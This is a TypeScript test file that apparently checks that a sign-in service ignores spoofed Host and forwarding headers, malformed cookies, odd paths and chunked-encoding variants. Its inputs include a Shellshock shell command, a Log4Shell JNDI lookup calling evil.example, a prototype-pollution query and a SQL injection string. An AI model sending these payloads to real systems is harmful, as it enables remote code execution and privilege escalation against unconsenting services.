import { exchange, requestText } from "../support/raw-connection";
import type { AdmittedCase } from "./admitted-case";
import { chunked } from "./broken-request";

type Parts = Parameters<typeof requestText>[0];

/** A valid sign-in over an unusual connection. */
function wired(
  id: string,
  name: string,
  write: (body: string) => string,
): AdmittedCase {
  return {
    id,
    name,
    send:
      ({ service }, idToken) =>
      async () => {
        const reply = await exchange(
          service,
          write(JSON.stringify({ idToken })),
        );
        expect([...reply.headers, reply.text].join()).not.toMatch(
          /evil|6\.6\.6\.6/,
        );
        return reply;
      },
  };
}

const plain = (id: string, name: string, parts: Parts) =>
  wired(id, name, (body) => requestText({ ...parts, body }));

const headed = (id: string, headers: Readonly<Record<string, string>>) =>
  plain(id, Object.entries(headers).join().slice(0, 60), { headers });

const inChunks = (headers: Readonly<Record<string, string>> = {}) =>
  requestText({
    headers: {
      "Content-Length": undefined,
      "Transfer-Encoding": "chunked",
      ...headers,
    },
  });

/** Headers that claim another host or client address, and are ignored. */
const claims: Readonly<Record<string, string>>[] = [
  { Host: "evil.example" },
  { Host: "evil.example:6666" },
  { Host: "[::1]:80" },
  { Host: "" },
  { "X-Forwarded-Host": "evil.example" },
  { "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "http" },
  { "X-Forwarded-Proto": "http" },
  { "X-Forwarded-Proto": "javascript" },
  { "X-Forwarded-Port": "6666", "X-Forwarded-Prefix": "/evil" },
  { "X-Original-URL": "/evil", "X-Rewrite-URL": "/evil" },
  { Forwarded: "for=6.6.6.6;host=evil.example;proto=http" },
  { "X-Real-IP": "6.6.6.6" },
  { "True-Client-IP": "6.6.6.6", "CF-Connecting-IP": "6.6.6.6" },
  ...[
    "6.6.6.6",
    "6.6.6.6, 127.0.0.1",
    "127.0.0.1",
    "::1",
    "6.6.6.6:80",
    "[2001:db8::1]:80",
    "unknown",
    "_hidden",
    "",
    ",,,,",
    "evil.example",
    "' OR 1=1--",
    "6.6.6.6\t",
    "999.999.999.999",
    "6.6.6.6, ".repeat(1000),
    "x".repeat(10_000),
  ].map((address) => ({ "X-Forwarded-For": address })),
];

export const goodConnectionCases: AdmittedCase[] = [
  ...claims.map((headers) =>
    headed("X-Forwarded-For" in headers ? "W-016" : "W-011", headers),
  ),
  plain("W-016", "X-Forwarded-For twice", {
    headers: { "X-Forwarded-For": "6.6.6.6", "x-forwarded-for": "6.6.6.6" },
  }),
  ...[
    "a=%",
    "a=%zz; b=%ff",
    ";;;=;a",
    "a",
    "=",
    '"',
    "__proto__=x",
    "sid=1",
  ].map((cookie) => headed("W-009", { Cookie: cookie })),
  headed("W-009", {
    Cookie: Array.from({ length: 200 }, (_, index) => `c${index}=v`).join("; "),
  }),
  headed("W-009", { Cookie: `a=${"b".repeat(10_000)}` }),
  headed("G-114", { "X-HTTP-Method-Override": "DELETE" }),
  headed("G-114", { "X-HTTP-Method-Override": "GET", "X-Method": "HEAD" }),
  headed("G-104", { "X-ID-Token": "another", "ID-Token": "another" }),
  headed("G-104", { Authorization: "Bearer another" }),
  headed("G-104", { Authorization: "Basic YTpi" }),
  headed("W-018", { Connection: "Upgrade, close", Upgrade: "websocket" }),
  headed("W-018", { Connection: "Upgrade, close", Upgrade: "h2c" }),
  headed("W-018", { TE: "trailers", Trailer: "X" }),
  headed("W-018", { Range: "bytes=0-1", "If-None-Match": "*" }),
  headed("W-018", { "If-Modified-Since": "never", "Max-Forwards": "0" }),
  headed("W-018", { Accept: "text/html", "Accept-Encoding": "gzip, br" }),
  headed("W-018", { Accept: "", "Accept-Charset": "utf-16" }),
  headed("W-018", { "User-Agent": "() { :;}; /bin/sh -c evil" }),
  headed("W-018", { "User-Agent": "${jndi:ldap://evil.example/a}" }),
  headed("W-018", { "User-Agent": "\u00fc\u00ff" }),
  headed("W-018", { "User-Agent": "x".repeat(10_000) }),
  ...[
    "/auth/google?",
    "/auth/google?%",
    "/auth/google?a=%ff&b=%c0%ae",
    "/auth/google?__proto__[role]=admin&constructor[prototype][role]=admin",
    `/auth/google?${"a=b&".repeat(3000)}`,
    "/auth/%67oogle",
    "/%61%75%74%68/google",
    "http://service.example/auth/google",
    "http://evil.example/auth/google",
  ].map((path) => plain("W-018", `the path ${path.slice(0, 60)}`, { path })),
  wired("W-018", "one chunk", (body) => inChunks() + chunked(body)),
  wired(
    "W-018",
    "chunks of one byte",
    (body) =>
      `${inChunks()}${Array.from(body, (byte) => `1\r\n${byte}\r\n`).join("")}0\r\n\r\n`,
  ),
  wired(
    "W-018",
    "a chunk with an extension",
    (body) => inChunks() + chunked(body).replace("\r\n", ';a=b;c="d"\r\n'),
  ),
  wired(
    "W-018",
    "a header after the last chunk",
    (body) => inChunks() + chunked(body).replace(/\r\n$/, "X: y\r\n\r\n"),
  ),
  wired(
    "W-018",
    "CHUNKED in capitals",
    (body) => inChunks({ "Transfer-Encoding": "CHUNKED" }) + chunked(body),
  ),
  wired(
    "W-018",
    "empty lines before",
    (body) => `\r\n\r\n${requestText({ body })}`,
  ),
  plain("W-018", "HTTP/1.0", { version: "HTTP/1.0" }),
];
